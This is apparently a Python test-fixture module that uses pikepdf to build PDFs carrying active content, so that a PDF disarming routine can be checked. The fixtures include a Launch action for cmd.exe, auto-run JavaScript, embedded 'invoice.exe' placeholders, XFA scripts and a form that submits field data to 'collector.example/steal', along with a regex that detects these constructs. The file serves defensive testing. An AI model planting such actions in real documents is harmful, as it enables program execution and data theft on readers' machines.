"""PDFs built with pikepdf for the tests: a plain one with text on its pages, and one for each kind of
active content an inbound PDF may carry (media/pdfs.py must remove every one)."""

from __future__ import annotations

import io
import re
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Name, String

TEXT = b"Member ID HX-2209-51"  # on every page of every PDF built here
SCRIPT = "app.alert('opened-29')"
PROGRAM = "C:\\Windows\\System32\\cmd.exe"
PAYLOAD = b"MZ-EMBEDDED-PAYLOAD-29"
XFA = b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>xfa.host.messageBox("29")</script></xdp:xdp>'
# What must not be left in a disarmed PDF, as names (whole) or as the payloads above.
ACTIVE = re.compile(
    rb"/(JavaScript|JS|OpenAction|AA|Launch|SubmitForm|EmbeddedFiles?|EF|AF|XFA|FileAttachment|RichMedia)"
    rb"(?![A-Za-z0-9])|opened-29|cmd\.exe|EMBEDDED-PAYLOAD|xdp:xdp"
)


def plain(pages: int = 2) -> pikepdf.Pdf:
    """A PDF of `pages` letter pages, each showing TEXT in Helvetica."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _ in range(pages):
        content = pdf.make_stream(b"BT /F1 12 Tf 72 720 Td (" + TEXT + b") Tj ET")
        page = Dictionary(
            Type=Name.Page,
            MediaBox=Array([0, 0, 612, 792]),
            Resources=Dictionary(Font=Dictionary(F1=font)),
            Contents=content,
        )
        pdf.pages.append(pikepdf.Page(page))
    return pdf


def saved(pdf: pikepdf.Pdf, **options: object) -> bytes:
    """The PDF's bytes, as a sender's software would write them."""
    out = io.BytesIO()
    pdf.save(out, **options)
    return out.getvalue()


def expanded(data: bytes) -> bytes:
    """A PDF's bytes with every stream decompressed and no object streams, so a search sees it all."""
    with pikepdf.open(io.BytesIO(data)) as pdf:
        return saved(
            pdf,
            qdf=True,
            compress_streams=False,
            stream_decode_level=pikepdf.StreamDecodeLevel.generalized,
        )


def script() -> Dictionary:
    """A JavaScript action."""
    return Dictionary(S=Name.JavaScript, JS=String(SCRIPT))


def launch() -> Dictionary:
    """A launch action: run a program on the reader's computer."""
    return Dictionary(S=Name.Launch, F=String(PROGRAM), Win=Dictionary(F=String(PROGRAM)))


def file_spec(pdf: pikepdf.Pdf) -> Dictionary:
    """A file specification with an embedded file."""
    stream = pdf.make_stream(PAYLOAD, Type=Name.EmbeddedFile)
    return Dictionary(Type=Name.Filespec, F=String("invoice.exe"), EF=Dictionary(F=stream))


def annotate(pdf: pikepdf.Pdf, annotation: Dictionary) -> Dictionary:
    """Put an annotation on the first page; returns it (indirect)."""
    page = pdf.pages[0].obj
    annotation = pdf.make_indirect(annotation)
    annotation.P = page
    page.Annots = Array([*page.get("/Annots", Array()), annotation])
    return annotation


def open_action_script(pdf: pikepdf.Pdf) -> None:
    """JavaScript run as the document opens."""
    pdf.Root.OpenAction = script()


def open_action_launch(pdf: pikepdf.Pdf) -> None:
    """A program launched as the document opens."""
    pdf.Root.OpenAction = launch()


def catalog_additional_actions(pdf: pikepdf.Pdf) -> None:
    """Scripts on the document's events (before close, after print)."""
    pdf.Root.AA = Dictionary(WC=script(), DP=script())


def page_additional_actions(pdf: pikepdf.Pdf) -> None:
    """A script run when the first page opens."""
    pdf.pages[0].obj.AA = Dictionary(O=script())


def link_actions(pdf: pikepdf.Pdf) -> None:
    """A link that launches a program, with a script when the pointer enters it."""
    annotate(
        pdf,
        Dictionary(Subtype=Name.Link, Rect=Array([72, 700, 300, 720]), A=launch(), AA=Dictionary(E=script())),
    )


def names_javascript(pdf: pikepdf.Pdf) -> None:
    """Document-level JavaScript in the /Names tree."""
    pdf.Root.Names = Dictionary(
        JavaScript=Dictionary(Names=Array([String("init"), pdf.make_indirect(script())]))
    )


def embedded_files(pdf: pikepdf.Pdf) -> None:
    """A file embedded in the document (the /Names /EmbeddedFiles tree)."""
    pdf.Root.Names = Dictionary(
        EmbeddedFiles=Dictionary(Names=Array([String("invoice.exe"), file_spec(pdf)]))
    )


def file_attachment_annotation(pdf: pikepdf.Pdf) -> None:
    """A file attached to the first page as an annotation."""
    annotate(pdf, Dictionary(Subtype=Name.FileAttachment, Rect=Array([72, 600, 90, 620]), FS=file_spec(pdf)))


def xfa_form(pdf: pikepdf.Pdf) -> None:
    """An XFA form, with its script."""
    pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(XFA))
    pdf.Root.NeedsRendering = True


def form_field_scripts(pdf: pikepdf.Pdf) -> None:
    """A text field with keystroke, calculate and focus scripts, and a button that submits the form."""
    field = annotate(
        pdf,
        Dictionary(
            Subtype=Name.Widget,
            FT=Name.Tx,
            T=String("member_id"),
            V=String("HX-2209-51"),
            Rect=Array([72, 500, 300, 520]),
            AA=Dictionary(K=script(), C=script(), Fo=script()),
        ),
    )
    submit = Dictionary(S=Name.SubmitForm, F=String("https://collector.example/steal"))
    button = annotate(
        pdf,
        Dictionary(
            Subtype=Name.Widget,
            FT=Name.Btn,
            Ff=65536,
            T=String("send"),
            Rect=Array([72, 450, 150, 470]),
            A=submit,
        ),
    )
    pdf.Root.AcroForm = Dictionary(Fields=Array([field, button]))


def outline_script(pdf: pikepdf.Pdf) -> None:
    """A bookmark whose action is a script."""
    outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=1))
    item = pdf.make_indirect(Dictionary(Title=String("Start"), Parent=outlines, A=script()))
    outlines.First = outlines.Last = item
    pdf.Root.Outlines = outlines


HOSTILE: dict[str, Callable[[pikepdf.Pdf], None]] = {
    f.__name__: f
    for f in (
        open_action_script,
        open_action_launch,
        catalog_additional_actions,
        page_additional_actions,
        link_actions,
        names_javascript,
        embedded_files,
        file_attachment_annotation,
        xfa_form,
        form_field_scripts,
        outline_script,
    )
}


def hostile(kind: str, **save: object) -> bytes:
    """A plain two-page PDF carrying one kind of active content (a key of HOSTILE)."""
    pdf = plain()
    HOSTILE[kind](pdf)
    data = saved(pdf, **save)
    assert ACTIVE.search(expanded(data)), f"the {kind} PDF carries nothing to remove"
    return data
